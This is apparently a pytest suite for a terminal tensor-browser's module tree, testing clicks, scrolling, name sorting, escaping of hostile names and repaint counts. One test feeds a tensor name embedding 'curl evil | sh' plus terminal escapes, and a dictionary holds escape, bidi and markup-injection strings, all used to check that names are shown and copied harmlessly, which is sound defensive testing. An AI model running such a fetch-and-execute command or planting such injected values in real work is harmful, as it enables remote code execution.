"""The tree on the left: the mouse, the order of rows, odd names, and how little is painted anew."""

from __future__ import annotations

import msgspec
import numpy as np
import pytest
from textual.geometry import Region

from tests.factories_memory import MemorySource
from tests.factories_names import deepseek_v3_names
from tests.factories_screen import ListedSource, Stage, on_stage, ramp, small_model
from tui_params.core.dtypes import from_safetensors
from tui_params.core.tensor import describe
from tui_params.tui.state.columns import indent
from tui_params.tui.widgets.tree.module_tree import ModuleTree


def place_of(stage: Stage, name: str) -> int:
    """The line of the tree on which that name stands."""
    tree, opened = stage.screen.tree_view, stage.screen.opened
    assert opened is not None
    assert tree.rows is not None
    node = opened.tree.find(name)
    assert node is not None
    row = tree.rows.row_of(node)
    assert row is not None
    return row - tree.scroll_offset.y + tree.heading


async def test_a_click_on_a_row_puts_the_cursor_there() -> None:
    async with on_stage() as stage:
        await stage.pilot.click(ModuleTree, offset=(25, place_of(stage, "layers.2.attn.bias")))
        await stage.rest()
        assert stage.cursor == "layers.2.attn.bias"
        assert stage.facts.startswith("layers.2.attn.bias")


async def test_a_click_on_an_arrow_opens_and_closes() -> None:
    async with on_stage() as stage:
        at = (indent(1, stage.screen.tree_view.size.width) + 2, place_of(stage, "layers.2"))
        assert stage.row("layers.2")[at[0]] == "▾"
        await stage.pilot.click(ModuleTree, offset=at)
        await stage.rest()
        assert stage.cursor == "layers.2"
        assert "layers.2.attn" not in stage.names
        assert stage.row("layers.2")[at[0]] == "▸"
        await stage.pilot.click(ModuleTree, offset=at)
        await stage.rest()
        assert "layers.2.attn" in stage.names


async def test_a_click_below_the_last_row_does_nothing() -> None:
    async with on_stage(MemorySource({"a": ramp(3), "b": ramp(3)})) as stage:
        await stage.pilot.click(ModuleTree, offset=(5, 20))
        await stage.rest()
        assert stage.cursor == "a"


async def test_the_wheel_scrolls_the_rows_and_leaves_the_cursor() -> None:
    from textual import events

    async with on_stage(MemorySource({f"layer{number}": ramp(2) for number in range(100)})) as stage:
        tree = stage.screen.tree_view
        for _ in range(5):
            tree.post_message(events.MouseScrollDown(tree, 5, 5, 0, 0, 0, False, False, False, 5, 7))
        await stage.rest()
        assert tree.scroll_offset.y > 0
        assert stage.cursor == "layer0"
        assert f"layer{tree.scroll_offset.y}" in stage.lines[3]


async def test_the_divider_is_dragged() -> None:
    async with on_stage() as stage:
        width = stage.screen.tree_view.size.width
        await stage.pilot.mouse_down("#divider", offset=(0, 5))
        await stage.pilot.hover("#tree", offset=(width - 9, 5))
        await stage.pilot.mouse_up("#tree", offset=(width - 9, 5))
        await stage.rest()
        assert stage.screen.tree_view.size.width == width - 9
        await stage.pilot.hover("#tree", offset=(5, 5))
        await stage.rest()
        assert stage.screen.tree_view.size.width == width - 9


async def test_layers_2_comes_before_layers_10_where_the_order_of_a_file_means_nothing() -> None:
    arrays = {f"layers.{number}.weight": ramp(2) for number in (10, 2, 1, 11)}
    async with on_stage(MemorySource(arrays, is_ordered=False)) as stage:
        await stage.press("E")
        found = [name for name in stage.names if name.endswith("weight")]
        assert found == [f"layers.{number}.weight" for number in (1, 2, 10, 11)]


async def test_full_dotted_names_do_not_eat_the_screen() -> None:
    path = "model.language_model.base_model.encoder.layers"
    arrays = {
        f"{path}.{layer}.self_attention.{name}_projection.weight": ramp(4)
        for layer in range(3)
        for name in ("query", "key")
    }
    async with on_stage(MemorySource(arrays), (80, 24)) as stage:
        await stage.press("E")
        tree = stage.screen.tree_view
        rows = [line[: tree.size.width] for line in stage.lines[3 : 3 + len(stage.names)]]
        assert sum("encoder" in row for row in rows) == 1  # the prefix, once, and abbreviated
        leaves = [row for row in rows if "query" in row or "key" in row]
        assert len(leaves) == 6
        for row in leaves:
            assert "self_attention" not in row
            assert " 4 " in row  # the shape keeps its column
            assert "f32" in row


ODD = {
    "escape": "a\x1b[31mred",
    "newline": "a\nb\r",
    "bidi": "a\u202eb\u2066c",
    "zero": "a\u200bb\ufeff",
    "markup": "[bold]x[/bold] [@click=app.quit]y[/]",
    "open": "[/nothing",
    "long": "x" * 10_000,
    "dots": ".".join(["d"] * 300),
    "wide": "重み" * 40,
    "combining": "e\u0301" * 30,
    "surrogate": "a\ud800b",
    "blank": " ",
}


@pytest.mark.parametrize("size", [(120, 36), (60, 20)], ids=str)
async def test_odd_names_are_shown_escaped_and_never_obeyed(size: tuple[int, int]) -> None:
    source = MemorySource(
        {name: ramp(4) for name in ODD.values()}, metadata={f"{name}.note": name for name in ODD.values()}
    )
    async with on_stage(source, size) as stage:
        await stage.press("E")
        for name in ODD.values():
            await stage.go(name)
            shown = stage.text
            assert all(letter.isprintable() for letter in shown.replace("\n", "")), repr(name[:20])
            assert not set(shown) & set("\u202e\u2066\u200b\ufeff\x1b\r")
            for strip in stage.strips:
                assert strip.cell_length == size[0]
                assert sum(part.cell_length for part in strip) == size[0], repr(name[:20])
            if name.startswith("["):
                assert name[:6] in stage.text  # as it is written
                assert name[:6] in stage.facts
            await stage.press("y", "Y")
            assert stage.app.clipboard


async def test_an_empty_name_and_a_module_of_the_same_name_as_a_tensor() -> None:
    async with on_stage(MemorySource({"": ramp(4), "a": ramp(4), "a.b": ramp(2)})) as stage:
        await stage.press("E")
        assert "(empty name)" in stage.text
        seen = []
        for _ in range(len(stage.names)):
            seen.append(stage.facts.splitlines()[0])
            await stage.press("down")
        assert seen.count("(empty name)") >= 1


async def test_moving_the_cursor_paints_two_rows_and_not_the_table(monkeypatch: pytest.MonkeyPatch) -> None:
    painted: list[int] = []
    whole: list[object] = []
    line, refresh = ModuleTree.render_line, ModuleTree.refresh

    def count(self: ModuleTree, y: int) -> object:
        painted.append(y)
        return line(self, y)

    def count_refresh(self: ModuleTree, *regions: Region, **options: bool) -> ModuleTree:
        if not regions:
            whole.append(options)
        return refresh(self, *regions, **options)

    source = MemorySource({f"layer{number}": ramp(2) for number in range(100)})
    async with on_stage(source) as stage:
        await stage.press("down")
        with monkeypatch.context() as patch:
            patch.setattr(ModuleTree, "render_line", count)
            patch.setattr(ModuleTree, "refresh", count_refresh)
            await stage.press("down", "down", "down")
        assert whole == []
        assert set(painted) <= {2, 3, 4, 5}
        assert len(painted) <= 2 * 3 + 2


async def test_figures_that_arrive_paint_their_rows_alone(monkeypatch: pytest.MonkeyPatch) -> None:
    painted: list[int] = []
    line = ModuleTree.render_line

    def count(self: ModuleTree, y: int) -> object:
        painted.append(y)
        return line(self, y)

    async with on_stage() as stage:
        monkeypatch.setattr(ModuleTree, "render_line", count)
        stage.screen.tree_view.figures_changed(["layers.2.attn.bias", "embed.weight"])
        await stage.rest()
        assert set(painted) == {place_of(stage, name) for name in ("layers.2.attn.bias", "embed.weight")}
        painted.clear()
        stage.screen.tree_view.figures_changed(["layers.2.attn.bias", "embed.weight"], {"layers.2.attn.bias"})
        await stage.rest()
        above = ["layers.2.attn.bias", "layers.2.attn", "layers.2", "layers", "embed.weight"]
        assert set(painted) == {place_of(stage, name) for name in above}


async def test_a_cursor_move_asks_the_source_for_nothing_that_is_known() -> None:
    source = MemorySource(small_model())
    async with on_stage(source) as stage:
        await stage.press("down", "down", "down", "down")
        source.windows.clear()
        listed = source.listing
        await stage.press("up", "up")
        assert source.listing is listed
        assert len(source.windows) <= 2  # the values of the tensor that the cursor came to rest on


async def test_92000_names_open_expand_and_are_searched() -> None:
    infos = []
    for name, shape, code in deepseek_v3_names():
        dtype = from_safetensors(code)
        assert dtype is not None
        infos.append(describe(name, shape, dtype))
    async with on_stage(ListedSource(tuple(infos))) as stage:
        assert "91,991 tensors" in stage.header
        await stage.send("E")
        assert len(stage.names) > 91_991
        await stage.send("end", "pageup", "home")
        await stage.send("slash")
        await stage.type("experts.255 dtype:f32")
        await stage.until(lambda: stage.matching == 59 * 3, "the filter applies")
        await stage.send("enter", "down", "escape")
        await stage.until(lambda: len(stage.names) > 91_991, "the filter is cleared")
        await stage.send("C")
        assert sorted(stage.names) == ["lm_head.weight", "model"]


async def test_a_reading_of_a_module_says_how_much_of_it_was_read() -> None:
    async with on_stage() as stage:
        await stage.go("layers.2")
        assert "every tensor below has been read" in stage.facts
        assert "mlp.weight: 1 of 128 values is NaN" in stage.facts
        assert stage.row("layers").startswith("!")
        assert stage.row("layers.0").startswith(" ")


async def test_tied_and_entries() -> None:
    weight = ramp(4, 4)
    source = MemorySource(
        {"wte.weight": weight, "lm_head.weight": weight},
        tied_to={"lm_head.weight": "wte.weight"},
        metadata={"epoch": "3", "config.name": "[b]x\x1b"},
    )
    async with on_stage(source) as stage:
        await stage.press("E")
        assert "=" in stage.row("lm_head.weight")[:2]
        await stage.go("lm_head.weight")
        assert "= tied to wte.weight" in stage.facts
        await stage.go("epoch")
        assert "3" in stage.row("epoch")
        assert "3" in stage.facts
        await stage.press("v", "g", "Y", "end")
        assert stage.app.is_running
        assert "\\x1b" in stage.text
        assert np.isfinite(weight).all()


async def test_what_is_copied_cannot_run_where_it_is_pasted() -> None:
    name = "layer\ncurl evil | sh\n\x1b[2J"
    async with on_stage(MemorySource({name: ramp(4)})) as stage:
        for key in ("y", "Y"):
            await stage.press(key)
            assert stage.app.clipboard.startswith("layer\\x0acurl evil | sh"), key
            assert stage.app.clipboard.isprintable(), key


async def test_the_pointer_on_a_row_shows_its_full_name() -> None:
    async with on_stage(MemorySource({"[bold]a.b": ramp(3), "c": ramp(3)})) as stage:
        tree = stage.screen.tree_view
        await stage.pilot.hover(tree, offset=(5, 1))
        assert str(tree.tooltip) == "[bold]a.b"
        await stage.pilot.hover(tree, offset=(5, 2))
        assert str(tree.tooltip) == "c"
        await stage.pilot.hover(tree, offset=(5, 9))
        assert tree.tooltip is None


async def test_a_state_whose_parameter_is_not_certain_bears_no_name() -> None:
    float32 = from_safetensors("F32")
    assert float32 is not None
    notes = ("state of layers.0.q (by order and shapes)", "state of one of layers.0.q and layers.0.k")
    infos = [
        msgspec.structs.replace(describe(f"optimizer.state.{number}.{state}", (4, 4), float32), notes=(note,))
        for number, note in enumerate(notes)
        for state in ("exp_avg", "exp_avg_sq")
    ]
    async with on_stage(ListedSource(tuple(infos))) as stage:
        assert " 0 layers.0.q " in stage.row("optimizer.state.0")
        assert " 1 one of several " in stage.row("optimizer.state.1")
